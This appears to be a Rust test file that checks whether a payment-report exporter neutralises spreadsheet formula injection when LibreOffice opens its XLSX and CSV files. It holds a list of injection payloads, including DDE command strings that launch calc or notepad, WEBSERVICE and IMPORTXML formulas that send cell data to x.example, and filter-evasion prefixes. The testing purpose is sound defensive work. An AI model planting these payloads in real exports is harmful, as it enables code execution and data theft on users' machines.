//! The files as LibreOffice opens them: no payload becomes a formula, and every value is what it was.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::print_stderr,
    reason = "tests"
)]

use jiff::tz::TimeZone;
use paydesk_domain::{BusinessDay, Currency, Money, OrderStatus, Timestamp};
use paydesk_reports::{Heading, ListFormat, ListSetting, OrderLine, OrderList};
use paydesk_texts::Language;
use quick_xml::{Reader, XmlVersion, events::Event};
use std::{
    fs,
    path::{Path, PathBuf},
    process::Command,
};

/// Two payloads in each row.
const ROWS: usize = 5_000;

/// 2026-11-21 06:41:08 UTC.
const AT: i64 = 1_795_243_268_000;

/// What somebody would type into a note to have it run on the accountant's machine.
fn payload(n: usize) -> String {
    let starts = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "＝",
        "＋",
        "－",
        "＠",
        "\0=",
        "\u{feff}=",
        "\u{200b}=",
        "'=",
        "\"=",
        "=\"",
        ";=",
        ",=",
        "\u{202e}=",
        "_x003D_",
        "\u{a0}=",
        "　=",
    ];
    let bodies = [
        "1+1",
        "HYPERLINK(\"http://x.example\",\"a\")",
        "cmd|' /C calc'!A0",
        "SUM(A1:A9)",
        "WEBSERVICE(\"http://x.example/\"&A1)",
        "DDE(\"soffice\";\"x\";\"y\")",
        "2+5+cmd|' /C notepad'!A1",
        "IMPORTXML(CONCAT(\"http://x.example/\",A1))",
        "A1",
        "-1",
        "蛋糕,\"x\"\n下一行",
    ];
    let (start, body) = (
        starts[n % starts.len()],
        bodies[n / starts.len() % bodies.len()],
    );
    format!("{start}{body} {n}")
}

fn line(n: usize) -> OrderLine {
    let minor = i64::try_from(n).unwrap() * 37 - 5_000;
    let money = |minor| Money::from_minor(minor, Currency::CNY);
    OrderLine {
        number: format!(
            "{:028}",
            2_026_112_122_001_430_001_u64 + u64::try_from(n).unwrap()
        ),
        day: BusinessDay(20_261_121),
        at: Timestamp(AT + i64::try_from(n).unwrap() * 1_000),
        channel: "alipay".to_owned(),
        status: OrderStatus::Paid,
        amount: money(minor),
        taken: money(minor),
        refunded: money(0),
        operator: payload(2 * n),
        note: payload(2 * n + 1),
    }
}

fn written(format: ListFormat) -> Vec<u8> {
    let setting = ListSetting {
        format,
        language: Language::English,
        zone: TimeZone::get("Asia/Shanghai").unwrap(),
        currency: Currency::CNY,
        heading: Heading {
            title: "Orders".to_owned(),
            shop: "=1+1".to_owned(),
            filter: vec![("search".to_owned(), "=1+1".to_owned())],
            ..Heading::default()
        },
    };
    let mut list = OrderList::begin(Vec::new(), setting).unwrap();
    (0..ROWS).for_each(|n| list.row(&line(n)).unwrap());
    list.finish().unwrap().0
}

fn folder(name: &str) -> PathBuf {
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("reports-{name}"));
    fs::create_dir_all(&folder).unwrap();
    folder
}

/// The files as flat OpenDocument sheets; `None` without LibreOffice.
fn opened(folder: &Path, names: &[&str], filter: &[&str]) -> Option<Vec<String>> {
    let profile = format!("-env:UserInstallation=file://{}/profile", folder.display());
    let ended = Command::new("soffice")
        .arg(profile)
        .arg("--headless")
        .args(filter)
        .args(["--convert-to", "fods", "--outdir"])
        .arg(folder)
        .args(names.iter().map(|name| folder.join(name)))
        .output();
    match ended {
        Ok(output) => assert!(output.status.success(), "{output:?}"),
        Err(error) => {
            eprintln!("skipped: no soffice ({error})");
            return None;
        }
    }
    let read = |name: &&str| fs::read_to_string(folder.join(name).with_extension("fods")).unwrap();
    Some(names.iter().map(read).collect())
}

/// A cell as it was understood: its type with its value, and what is shown.
#[derive(Clone, Default, Debug, PartialEq)]
struct Found {
    kind: String,
    value: String,
    text: String,
}

/// The first sheet, cell by cell.
fn cells(sheet: &str) -> Vec<Vec<Found>> {
    let mut reader = Reader::from_str(sheet);
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), Found::default());
    let mut repeated = 1;
    let mut paragraphs = 0;
    let mut in_paragraph = false;
    loop {
        match reader.read_event().unwrap() {
            Event::Start(tag) | Event::Empty(tag) if tag.name().as_ref() == "table:table-cell" => {
                let get = |name: &str| {
                    let found = tag.try_get_attribute(name).unwrap();
                    found.map_or(String::new(), |it| {
                        it.normalized_value(XmlVersion::Implicit1_0)
                            .unwrap()
                            .into_owned()
                    })
                };
                let kind = get("office:value-type");
                let value = match kind.as_str() {
                    "date" => get("office:date-value"),
                    _ => get("office:value"),
                };
                repeated = get("table:number-columns-repeated").parse().unwrap_or(1);
                paragraphs = 0;
                cell = Found {
                    kind,
                    value,
                    text: String::new(),
                };
                // An empty element has no end of its own; blanks at the end of a row are of no interest.
                if cell.kind.is_empty() && repeated < 100 {
                    row.extend(std::iter::repeat_n(cell.clone(), repeated));
                }
            }
            Event::Start(tag) if tag.name().as_ref() == "text:p" => {
                if paragraphs > 0 {
                    cell.text.push('\n');
                }
                paragraphs += 1;
                in_paragraph = true;
            }
            Event::Empty(tag) if tag.name().as_ref() == "text:p" => {
                if paragraphs > 0 {
                    cell.text.push('\n');
                }
                paragraphs += 1;
            }
            Event::Empty(tag) if tag.name().as_ref() == "text:s" => {
                let count = tag.try_get_attribute("text:c").unwrap();
                let count = count.map_or(1, |c| {
                    c.normalized_value(XmlVersion::Implicit1_0)
                        .unwrap()
                        .parse()
                        .unwrap()
                });
                cell.text.extend(std::iter::repeat_n(' ', count));
            }
            Event::Empty(tag) if tag.name().as_ref() == "text:tab" => cell.text.push('\t'),
            Event::Text(text) if in_paragraph => cell.text.push_str(&text),
            Event::GeneralRef(name) if in_paragraph => match name.as_ref() {
                "amp" => cell.text.push('&'),
                "lt" => cell.text.push('<'),
                "gt" => cell.text.push('>'),
                "quot" => cell.text.push('"'),
                "apos" => cell.text.push('\''),
                _ => cell.text.push(name.resolve_char_ref().unwrap().unwrap()),
            },
            Event::End(tag) => match tag.name().as_ref() {
                "table:table-cell" if !cell.kind.is_empty() => {
                    row.extend(std::iter::repeat_n(cell.clone(), repeated));
                    paragraphs = 0;
                }
                "text:p" => in_paragraph = false,
                "table:table-row" => rows.push(std::mem::take(&mut row)),
                "table:table" => return rows,
                _ => {}
            },
            Event::Eof => return rows,
            _ => {}
        }
    }
}

/// How a payload is to be seen: what is obeyed and not shown is shown. Of a cell of several lines, LibreOffice
/// writes no tab, and a carriage return as a line break.
fn shown(payload: &str) -> String {
    let shown = payload.replace(['\0', '\u{202e}'], "\u{fffd}");
    if shown.contains('\n') {
        return shown.replace('\t', "").replace('\r', "\n");
    }
    shown
}

#[test]
fn ten_thousand_payloads_in_a_workbook_are_words_and_every_value_is_kept() {
    let folder = folder("xlsx");
    fs::write(folder.join("orders.xlsx"), written(ListFormat::Xlsx)).unwrap();
    let Some(sheets) = opened(&folder, &["orders.xlsx"], &[]) else {
        return;
    };
    assert_eq!(sheets[0].matches("table:formula").count(), 0);
    let rows = cells(&sheets[0]);
    assert_eq!(rows[0][0].text, "Order number");
    for n in 0..ROWS {
        let (row, line) = (&rows[n + 1], line(n));
        let text = |at: usize| {
            assert_eq!(row[at].kind, "string", "{:?}", row[at]);
            row[at].text.as_str()
        };
        assert_eq!(text(0), line.number, "28 digits, all of them");
        assert_eq!(text(10), shown(&line.operator), "{n}");
        assert_eq!(text(11), shown(&line.note), "{n}");
        let at = |cell: usize| (row[cell].kind.as_str(), row[cell].value.as_str());
        assert_eq!(at(1), ("date", "2026-11-21"));
        let moment = TimeZone::get("Asia/Shanghai")
            .unwrap()
            .to_datetime(line.at.to_jiff());
        assert_eq!(
            at(2),
            (
                "date",
                moment.strftime("%Y-%m-%dT%H:%M:%S").to_string().as_str()
            )
        );
        let (kind, value) = at(5);
        assert_eq!(kind, "float");
        assert_eq!(Money::parse(value, Currency::CNY).unwrap(), line.amount);
    }
    let total = &rows[ROWS + 1];
    assert_eq!(total[0].text, "Total");
    let sum: i64 = (0..ROWS).map(|n| line(n).taken.minor()).sum();
    let sum = Money::from_minor(sum, Currency::CNY);
    assert_eq!(Money::parse(&total[6].value, Currency::CNY).unwrap(), sum);
}

#[test]
fn ten_thousand_payloads_in_a_csv_run_nothing_even_where_formulas_are_asked_for() {
    let folder = folder("csv");
    fs::write(
        folder.join("orders.csv"),
        written(ListFormat::Csv { has_bom: true }),
    )
    .unwrap();
    // What must be found, so that the test can fail.
    fs::write(folder.join("runs.csv"), "a,b\r\n=1+1,=A1\r\n").unwrap();
    let formulas = "--infilter=CSV:44,34,76,1,,1033,false,true,true,false,false,0,true";
    let names = ["orders.csv", "runs.csv"];
    let Some(sheets) = opened(&folder, &names, &[formulas]) else {
        return;
    };
    assert_eq!(sheets[1].matches("table:formula").count(), 2);
    assert_eq!(sheets[0].matches("table:formula").count(), 0);
    let rows = cells(&sheets[0]);
    assert_eq!(rows.len().min(ROWS + 2), ROWS + 2);
}
